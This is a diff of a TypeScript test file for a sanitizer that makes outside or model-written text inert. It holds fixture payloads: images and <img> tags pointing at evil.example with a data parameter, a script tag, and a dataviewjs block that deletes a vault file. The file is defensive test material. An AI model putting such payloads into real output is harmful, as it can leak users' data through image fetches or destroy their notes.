@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 
-import { inert, renderable } from "../../src/ask/outside-text";
+import { inert } from "../../src/ask/outside-text";
 
 const MARK = "\u2060";
 const shown = (text: string): string => text.split(MARK).join("");
@@ -17,31 +17,23 @@ describe("inert", () => {
 		expect(shown(out).replace("text dataviewjs", "dataviewjs").replace("text Dataview", "Dataview")).toBe(text);
 	});
 
-	it("leaves text without such syntax as it is, and is idempotent", () => {
-		const text = "Rye ferments faster than wheat.\n```python\nprint(1 < 2)\n```\n`code` and 5 % 3";
+	it("breaks an image and an HTML tag outside code, so nothing is fetched when it is drawn", () => {
+		const text = 'See ![chart](https://evil.example/x.png?d=zafiro) and ![[Local note]].\n<img src="https://evil.example/?d=zafiro"> <!-- c --> </p> <br/>';
+		expect(inert(text)).toBe(`See !${MARK}[chart](https://evil.example/x.png?d=zafiro) and ![[Local note]].\n<${MARK}img src="https://evil.example/?d=zafiro"> <${MARK}!-- c --> <${MARK}/p> <${MARK}br/>`);
+	});
+
+	it.each([
+		"a < b and 3<4, <https://example.org/a> and [note](<My note.md>)",
+		"Use `<img src=x>` or ``![a](b)`` here.",
+		"```html\n<img src=a.png>\n![x](https://a.example/b.png)\n```",
+		"~~~~\n```\n<i>\n~~~~",
+		"Rye ferments faster than wheat; 5 % of it is bran.",
+	])("leaves code, autolinks, link destinations and plain text as they are: %s", (text) => {
 		expect(inert(text)).toBe(text);
-		const once = inert("<% tp.date.now() %> ```dataviewjs");
+	});
+
+	it("is idempotent", () => {
+		const once = inert("<% x %> ![a](https://b) <img src=c> ```dataviewjs");
 		expect(inert(once)).toBe(once);
-	});
-});
-
-describe("renderable", () => {
-	it("draws a remote image as a link, so nothing is fetched", () => {
-		const out = renderable("See ![chart](https://evil.example/x.png?d=zafiro) and ![[Local note]].");
-		expect(out).toBe("See [chart](https://evil.example/x.png?d=zafiro) and ![[Local note]].");
-	});
-
-	it("shows raw HTML as text outside code, and leaves code as it is", () => {
-		const answer = 'A <img src="https://evil.example/?d=zafiro"> and <script>x()</script> a < b.\nUse `<img src=x>` here:\n```html\n<img src="a.png">\n![x](https://a.example/b.png)\n```\nDone <br>';
-		expect(renderable(answer)).toBe('A &lt;img src="https://evil.example/?d=zafiro"> and &lt;script>x()&lt;/script> a < b.\nUse `<img src=x>` here:\n```html\n<img src="a.png">\n![x](https://a.example/b.png)\n```\nDone &lt;br>');
-	});
-
-	it("treats a lone backtick as text and a longer fence as closed only by its own kind", () => {
-		expect(renderable("5` of <b>rain</b>")).toBe("5` of &lt;b>rain&lt;/b>");
-		expect(renderable("~~~~\n```\n<i>\n~~~~\n<i>")).toBe("~~~~\n```\n<i>\n~~~~\n&lt;i>");
-	});
-
-	it("makes the model's query blocks inert too", () => {
-		expect(renderable("```dataviewjs\napp.vault.adapter.remove('x')\n```")).toBe("```text dataviewjs\napp.vault.adapter.remove('x')\n```");
 	});
 });
